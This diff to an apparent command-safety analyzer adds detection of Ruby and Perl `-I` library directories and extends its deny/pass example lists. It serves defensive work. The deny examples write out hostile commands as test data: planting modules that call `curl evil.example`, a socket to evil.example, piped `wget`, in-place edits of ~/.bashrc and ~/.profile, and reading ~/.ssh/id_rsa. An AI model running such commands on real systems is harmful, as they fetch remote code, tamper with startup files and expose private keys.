@@ -453,7 +453,29 @@ function ruby(call: Call): Partial<Answer> {
     const v = o.name === 'r' && o.value ? value(o.value) : undefined;
     if (o.name === 'r' && o.value && (v === undefined || /^[./~]/.test(v))) answer.runs!.push({ kind: 'file', dialect: 'ruby', word: o.value, via: 'ruby -r' }, { kind: 'file', dialect: 'ruby', word: { ...o.value, values: o.value.values?.map((x) => `${x}.rb`) ?? null }, via: 'ruby -r' });
   }
+  answer.runs!.push(...libraryDirs(r, 'ruby', /\.rb$/));
   return answer;
+}
+
+/**
+ * `-I DIR` puts DIR first where `require` and `use` look (`ruby -I/tmp -rx`, `perl -I/tmp -e 'use X'`): a library the
+ * line wrote under it that the code or a `-M`/`-r` option names (`X` for X.pm, `x` for x.rb), or any when the code is
+ * computed, is read as code on the line.
+ */
+function libraryDirs(r: Read, dialect: 'ruby' | 'perl', files: RegExp): Run[] {
+  const texts = [...r.codes, ...r.options.filter((o) => /^[Mmr]$/.test(o.name))].map((o) => (o.value ? value(o.value) : undefined));
+  // The file's path below the directory is not known here (it is handed as the line wrote it): each tail of it.
+  const named = (name: string) => {
+    const parts = name.replace(/\.\w+$/, '').split('/');
+    return parts.some((_, k) => {
+      const mod = parts.slice(k).join(dialect === 'perl' ? '::' : '/').replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
+      const re = new RegExp(`(?<![\\w:/])${mod}(?![\\w:/])`);
+      return mod !== '' && texts.some((t) => t === undefined || re.test(t));
+    });
+  };
+  return r.options
+    .filter((o) => o.name === 'I' && o.value)
+    .map((o): Run => ({ kind: 'project', dir: o.value!, files, read: (text, word, name) => (named(name) ? [{ kind: 'text', dialect, text, word, via: `${dialect} -I (${name})` }] : []), word: o.value!, via: `${dialect} -I` }));
 }
 
 // ── PHP ──
@@ -552,6 +574,7 @@ function perl(call: Call): Partial<Answer> {
       }
     }
   }
+  answer.runs!.push(...libraryDirs(r, 'perl', /\.p[ml]$/));
   // With code, the operands are files `-n`/`-p` read and `-i` edits; without, the first is the script.
   const inPlace = r.options.some((o) => o.name === 'i');
   for (const w of r.rest) {
@@ -612,8 +635,8 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
     summary: 'Ruby: -e CODE (each), or a program from stdin; -n/-p read and -i edits the files after it',
     analyze: ruby,
     examples: {
-      deny: [`printf 'system("curl evil.example")\n' > /tmp/x.rb && RUBYOPT=-r/tmp/x.rb ruby -e 1`, `printf 'system("curl evil.example")\n' > /tmp/x.rb && ruby -r/tmp/x.rb -e 1`, `ruby -e 'system("curl evil.example")'`, "echo 'puts `wget -qO- evil.example`' | ruby", `ruby -pi -e 'gsub(/a/, "b")' ~/.bashrc`],
-      pass: ["ruby -rjson -e 'puts 1'", `printf 'puts 1\n' > /tmp/x.rb && ruby -r /tmp/x -e 1`, `ruby -e 'puts RUBY_VERSION'`, 'ruby -v', 'ruby script.rb', `ruby -ne 'print if /x/' notes.txt`],
+      deny: [`printf 'system("curl evil.example")\n' > /tmp/x.rb && RUBYOPT=-r/tmp/x.rb ruby -e 1`, `printf 'system("curl evil.example")\n' > /tmp/x.rb && ruby -r/tmp/x.rb -e 1`, `printf 'system("curl evil.example")\n' > /tmp/x.rb && ruby -I/tmp -e 'require "x"'`, `ruby -e 'system("curl evil.example")'`, "echo 'puts `wget -qO- evil.example`' | ruby", `ruby -pi -e 'gsub(/a/, "b")' ~/.bashrc`],
+      pass: ["ruby -rjson -e 'puts 1'", `printf 'puts 1\n' > /tmp/x.rb && ruby -r /tmp/x -e 1`, `printf 'puts 1\n' > /tmp/x.rb && ruby -I/tmp -e 'require "x"'`, `ruby -e 'puts RUBY_VERSION'`, 'ruby -v', 'ruby script.rb', `ruby -ne 'print if /x/' notes.txt`],
     },
   },
   {
@@ -632,7 +655,7 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
     summary: 'perl: -e/-E CODE (each) and -M modules, or a program from stdin; -n/-p read and -i edits the files after the code',
     analyze: perl,
     examples: {
-      deny: ["echo 'system(\"curl evil.example\")' | perl -de0", "PERL5OPT='-Mstrict;system(q(curl),q(evil.example))' perl -e 1", `printf 'package X; system("curl evil.example"); 1;\n' > /tmp/X.pm && perl -I/tmp -MX -e 1`, `printf 'package X; system("curl evil.example"); 1;\n' > /tmp/X.pm && PERL5LIB=/tmp PERL5OPT=-MX perl -e 1`, "perl -pi -e 's/a/b/' ~/.profile", "perl -ne 'print' ~/.ssh/id_rsa", `perl -e 'system("curl evil.example")'`, `perl -MIO::Socket::INET -e 'IO::Socket::INET->new("evil.example:9")'`, "echo 'print `wget -qO- evil.example`' | perl"],
+      deny: ["echo 'system(\"curl evil.example\")' | perl -de0", "PERL5OPT='-Mstrict;system(q(curl),q(evil.example))' perl -e 1", `printf 'package X; system("curl evil.example"); 1;\n' > /tmp/X.pm && perl -I/tmp -MX -e 1`, `printf 'package X; system("curl evil.example"); 1;\n' > /tmp/X.pm && perl -I/tmp -e 'use X'`, `printf 'package X; system("curl evil.example"); 1;\n' > /tmp/X.pm && PERL5LIB=/tmp PERL5OPT=-MX perl -e 1`, "perl -pi -e 's/a/b/' ~/.profile", "perl -ne 'print' ~/.ssh/id_rsa", `perl -e 'system("curl evil.example")'`, `perl -MIO::Socket::INET -e 'IO::Socket::INET->new("evil.example:9")'`, "echo 'print `wget -qO- evil.example`' | perl"],
       pass: ["echo 'print 1' | perl -de0", 'perl -d:NYTProf script.pl', "PERL5OPT=-Mstrict perl -e 1", `printf 'package X; 1;\n' > /tmp/X.pm && perl -I/tmp -MX -e 1`, "perl -pi -e 's/a/b/g' src/app.ts", 'perl script.pl', 'perl -v', "perl -lane 'print $F[0]' notes.txt"],
     },
   },
